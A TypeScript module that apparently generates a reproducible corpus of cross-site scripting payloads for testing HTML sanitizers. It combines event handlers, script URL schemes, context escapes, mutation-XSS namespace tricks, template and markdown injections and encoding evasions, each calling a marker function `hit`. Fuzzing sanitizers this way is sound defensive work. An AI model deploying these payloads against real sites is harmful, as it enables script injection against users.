/**
 * Texts that run a script where a page takes them for more than text, made by a grammar from a seed: the same list on every machine.
 *
 * Families: tags with handlers, addresses that are scripts, elements of script, ways out of where a text stands, mixed namespaces that a
 * parser reads differently the second time, markings of other languages, and the same again in other writings. Each calls `hit`.
 */
import { seededRandom } from "@kaelix/base";

type Random = ReturnType<typeof seededRandom>;

/** What a family makes. */
interface Made {
  readonly family: string;
  readonly text: string;
}

const CALLS = [
  "hit(1)",
  "hit`1`",
  "top.hit(1)",
  "self['hit'](1)",
  "[1].find(hit)",
  "eval('hit(1)')",
  "Function('hit(1)')()",
  "setTimeout('hit(1)')",
  "(0,hit)(1)",
  "hit?.(1)",
];
const HANDLED: readonly (readonly [tag: string, handler: string, rest: string])[] = [
  ["img", "onerror", "src=x"],
  ["img", "onload", "src=data:image/gif;base64,R0lGODlhAQABAAAAACw="],
  ["image", "onerror", "src=x"],
  ["svg", "onload", ""],
  ["svg", "onfocusin", "tabindex=1 autofocus"],
  ["body", "onpageshow", ""],
  ["body", "onload", ""],
  ["input", "onfocus", "autofocus"],
  ["input", "onerror", "type=image src=x"],
  ["details", "ontoggle", "open"],
  ["video", "onerror", "src=x"],
  ["audio", "onerror", "src=x"],
  ["iframe", "onload", ""],
  ["object", "onerror", "data=x"],
  ["embed", "onload", "src=x"],
  ["style", "onload", ""],
  ["link", "onerror", "rel=stylesheet href=x"],
  ["script", "onerror", "src=x"],
  ["select", "onfocus", "autofocus"],
  ["textarea", "onfocus", "autofocus"],
  ["button", "onfocus", "autofocus"],
  ["a", "onfocus", "href=# autofocus"],
  ["div", "onanimationstart", "style=animation:x"],
  ["div", "ontransitionend", "style=transition:all"],
  ["p", "onpointerenter", ""],
  ["x", "onfocus", "tabindex=1 autofocus"],
  ["x", "onclick", ""],
  ["video", "onloadstart", "src=x"],
  ["dialog", "onbeforetoggle", "popover"],
  ["meter", "onmouseover", ""],
];
const ADDRESSED: readonly (readonly [tag: string, attribute: string])[] = [
  ["a", "href"],
  ["area", "href"],
  ["iframe", "src"],
  ["frame", "src"],
  ["embed", "src"],
  ["object", "data"],
  ["form", "action"],
  ["button", "formaction"],
  ["input type=submit", "formaction"],
  ["base", "href"],
  ["link rel=prefetch", "href"],
  ["svg><a", "xlink:href"],
  ["svg><use", "href"],
  ["math><mi", "href"],
  ["script", "src"],
  ["img", "src"],
  ["body", "background"],
  ["blockquote", "cite"],
];
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "\u0001javascript:",
  " javascript:",
  "javascript&colon;",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "javascript://%0a",
  "javascript:/*x*/",
  "data:text/html,<script>",
  "data:text/javascript,",
  "vbscript:",
  "feed:javascript:",
  "view-source:javascript:",
];
const WAYS_OUT = [
  '">',
  "'>",
  "`>",
  '"/>',
  "-->",
  "--!>",
  "]]>",
  "?>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</noscript>",
  "</template>",
  "</select>",
  "</svg>",
  "</math>",
  "</xmp>",
  "</iframe>",
  "\\u0022>",
  "*/",
  "';",
  '";',
  "`;",
  "}});",
];
const SHELLS: readonly (readonly [before: string, after: string])[] = [
  ['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;', '">'],
  ['<svg></p><style><a id="</style>', '">'],
  ["<form><math><mtext></form><form><mglyph><style></math>", ""],
  ['<noscript><p title="</noscript>', '">'],
  ["<table><td><svg><desc><table><td>", ""],
  ["<svg><foreignObject>", "</foreignObject></svg>"],
  ["<svg><desc><![CDATA[</desc>", "]]></svg>"],
  ["<math><annotation-xml encoding=text/html>", "</annotation-xml></math>"],
  ["<select><template>", "</template></select>"],
  ["<template shadowrootmode=open>", "</template>"],
  ["<textarea></textarea>", ""],
  ["<option><style></option></select>", "</style>"],
  ['<xmp><p title="</xmp>', '">'],
  ["<iframe srcdoc='", "'></iframe>"],
  ["<object><param name=x>", "</object>"],
  ["<a id=attributes><a id=attributes name=y>", "</a>"],
];
const TEMPLATES = [
  "{{CALL}}",
  "${CALL}",
  "<%= CALL %>",
  "#{CALL}",
  "{%CALL%}",
  "[[CALL]]",
  "@(CALL)",
  "{CALL}",
  "$(CALL)",
  "=CALL",
];
const MARKDOWN = [
  "[x](URL)",
  "![x](URL)",
  "[x]: URL",
  "<URL>",
  '[x](https://x.example "onmouseover=CALL")',
  "[![x](x)](URL)",
  "[x](<URL>)",
  "| a |\n|-|\n| [x](URL) |",
  "```html\n<img src=x onerror=CALL>\n```",
  "<details>\n\n[x](URL)\n</details>",
];

/** `count` different payloads, each with its family. @param seed the same seed makes the same list */
export function grownPayloads(count: number, seed = 1): readonly Made[] {
  const random = seededRandom(seed);
  const made = new Map<string, string>();
  for (let at = 0; made.size < count; at++) {
    const [family, grow] = FAMILIES[at % FAMILIES.length] ?? FAMILIES[0];
    const text = grow(random);
    if (!made.has(text)) made.set(text, family);
  }
  return [...made].map(([text, family]) => ({ family, text }));
}

const FAMILIES = [
  ["handlers", handlers],
  ["addresses", addresses],
  ["scripts", scripts],
  ["ways out", waysOut],
  ["shells", shells],
  ["markings", markings],
  ["writings", writings],
] as const;

function handlers(random: Random): string {
  const [tag, handler, rest] = pick(random, HANDLED);
  const gap = pick(random, [" ", "/", "\t", "\n", "\f", " / "]);
  const quote = pick(random, ["", '"', "'"]);
  const call =
    quote === ""
      ? pick(
          random,
          CALLS.filter((one) => !/[\s>]/.test(one)),
        )
      : callIn(random, quote);
  const parts = [`${cased(random, handler)}${pick(random, ["=", " = ", "\n="])}${quote}${call}${quote}`, rest];
  const attributes = (random.integer(2) === 0 ? parts : parts.toReversed()).filter((part) => part !== "");
  return `<${cased(random, tag)}${gap}${attributes.join(pick(random, [" ", "\t", "\n"]))}${pick(random, [">", "/>", " >", ""])}`;
}

function addresses(random: Random): string {
  const [tag, attribute] = pick(random, ADDRESSED);
  const scheme = pick(random, SCHEMES);
  const quote = pick(random, ['"', "'"]);
  return `<${cased(random, tag)} ${cased(random, attribute)}=${quote}${scheme}${callIn(random, quote)}${quote}>x</${tag.split(/[ >]/)[0] ?? ""}>`;
}

function scripts(random: Random): string {
  const call = pick(random, CALLS);
  const open = pick(random, [
    "<script>",
    "<SCRIPT/x>",
    "<script type=module>",
    "<script\n>",
    "<svg><script>",
    "<scr<script>ipt>",
    "<script type=text/javascript;x=1>",
    '<script nonce="">',
  ]);
  const close = pick(random, ["</script>", "</ScRiPt\n>", "</script x>", "", "//</script>", "<!--</script>"]);
  return `${open}${pick(random, ["", ";", "//\n", "/**/", "\u2028"])}${call}${close}`;
}

function waysOut(random: Random): string {
  const inner = random.integer(2) === 0 ? handlers(random) : scripts(random);
  return `${pick(random, WAYS_OUT)}${random.integer(3) === 0 ? pick(random, WAYS_OUT) : ""}${inner}`;
}

function shells(random: Random): string {
  const [before, after] = pick(random, SHELLS);
  return `${before}${random.integer(3) === 0 ? scripts(random) : handlers(random)}${after}`;
}

function markings(random: Random): string {
  const call = pick(random, CALLS);
  if (random.integer(3) === 0) {
    const words = pick(random, TEMPLATES);
    const path = pick(random, ["", "constructor.constructor", "$on.constructor", "this.constructor.constructor"]);
    return words.replace("CALL", () => (path === "" ? call : `${path}('${call.replaceAll("'", "\\'")}')()`));
  }
  return pick(random, MARKDOWN)
    .replace("URL", () => pick(random, SCHEMES) + call)
    .replace("CALL", () => call);
}

function writings(random: Random): string {
  const text = random.integer(2) === 0 ? handlers(random) : scripts(random);
  const special = (letter: string): boolean => /[<>"'=/]/.test(letter);
  const each = (write: (letter: string) => string): string =>
    Array.from(text, (letter) => (special(letter) ? write(letter) : letter)).join("");
  switch (random.integer(8)) {
    case 0:
      return each((letter) => `&#${letter.codePointAt(0)};`);
    case 1:
      return each((letter) => `&#x${(letter.codePointAt(0) ?? 0).toString(16)}`);
    case 2:
      return each((letter) => encodeURIComponent(letter));
    case 3:
      return each((letter) => `\\u${(letter.codePointAt(0) ?? 0).toString(16).padStart(4, "0")}`);
    case 4:
      return each((letter) => String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0xfe_e0));
    case 5:
      return each((letter) => encodeURIComponent(encodeURIComponent(letter)));
    case 6:
      return text.replace("<", "<\u200b").replace(">", "\u202e>");
    default:
      return JSON.stringify({ __html: text, dangerouslySetInnerHTML: { __html: text } });
  }
}

/** A call that does not end the quotation it stands in. */
function callIn(random: Random, quote: string): string {
  return pick(
    random,
    CALLS.filter((one) => !one.includes(quote)),
  );
}

function cased(random: Random, text: string): string {
  return random.integer(3) === 0
    ? Array.from(text, (letter) => (random.integer(2) === 0 ? letter.toUpperCase() : letter)).join("")
    : text;
}

function pick<Item>(random: Random, items: readonly Item[]): Item {
  const item = items[random.integer(items.length)];
  if (item === undefined) throw new Error("Nothing to pick from");
  return item;
}
